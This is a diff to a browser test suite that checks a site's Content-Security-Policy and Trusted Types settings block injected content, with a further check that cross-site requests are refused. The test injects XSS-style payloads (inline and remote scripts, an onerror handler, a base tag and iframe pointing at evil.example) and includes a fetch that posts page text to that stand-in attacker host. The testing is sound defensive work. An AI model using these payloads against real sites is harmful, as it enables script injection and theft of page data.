@@ -42,6 +42,11 @@ test('The Content-Security-Policy blocks scripts, styles, images and requests in
     asked.push(route.request().url());
     return route.abort();
   });
+  await page.route(`**${pathTo('referral', 'en')}`, async (route) => {
+    const response = await route.fetch();
+    const body = (await response.text()).replace('<head>', '<head><base href="https://evil.example/">');
+    await route.fulfill({ response, body: body.replace('</body>', `${injections}</body>`) });
+  });
   await page.goto(pathTo('referral', 'en'));
   await page.evaluate(tryInjections);
   const refused = () => new Set(violations.map((violation) => violation.split(' ')[1]));
@@ -52,20 +57,29 @@ test('The Content-Security-Policy blocks scripts, styles, images and requests in
 
 /** The directives that the injections below violate. */
 const violatedDirectives = ['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr', 'img-src'].concat(
-  ['connect-src', 'frame-src', 'base-uri', 'font-src'],
+  ['connect-src', 'frame-src', 'base-uri', 'font-src', 'require-trusted-types-for', 'trusted-types'],
 );
 
-/** Runs in the page and tries every kind of injection. */
+/** In the page itself, as if the server had not escaped a text. */
+const injections = `<script>window.injected = 1</script>
+  <script src="https://evil.example/x.js"></script>
+  <img src="https://evil.example/x.png">
+  <img src="data:image/png," onerror="window.injected = 2">
+  <style>@font-face { font-family: evil; src: url(https://evil.example/x.woff2) } body { color: red }</style>
+  <p style="color: red">red</p>
+  <iframe src="https://evil.example/"></iframe>`;
+
+/** Runs in the page, as a script of ours that makes HTML of a text would. */
 function tryInjections() {
-  const add = (html: string) => document.body.append(document.createRange().createContextualFragment(html));
-  add('<script>window.injected = 1</script>');
-  add('<script src="https://evil.example/x.js"></script>');
-  add('<img src="https://evil.example/x.png">');
-  add('<img src="data:image/png," onerror="window.injected = 2">');
-  add('<style>@font-face { font-family: evil; src: url(https://evil.example/x.woff2) } body { color: red }</style>');
-  add('<p style="color: red">red</p>');
-  add('<iframe src="https://evil.example/"></iframe>');
-  document.head.append(document.createRange().createContextualFragment('<base href="https://evil.example/">'));
+  const quietly = (attempt: () => unknown) => {
+    try {
+      attempt();
+    } catch {
+      // Refused.
+    }
+  };
+  quietly(() => document.createRange().createContextualFragment('<p>injected</p>'));
+  quietly(() => window.trustedTypes?.createPolicy('evil', {}));
   fetch('https://evil.example/', { method: 'POST', body: document.body.textContent }).catch(() => {});
   new FontFace('evil', 'url(https://evil.example/y.woff2)').load().catch(() => {});
 }
@@ -165,7 +179,7 @@ test('Another site can store nothing, neither with forms nor with fetch', async 
       },
     );
     // Requests without a preflight are sent, but the other site cannot read the response and nothing is stored.
-    expect(new Set(outcomes)).toEqual(new Set(['refused', 'opaque 0']));
+    expect(new Set(outcomes)).toEqual(new Set(['refused']));
     for (const collection of ['referrals', 'messages', 'subscribers'] as const) {
       expect(await site.documents(collection)).toEqual([]);
       expect(await site.quarantined(collection)).toEqual([]);
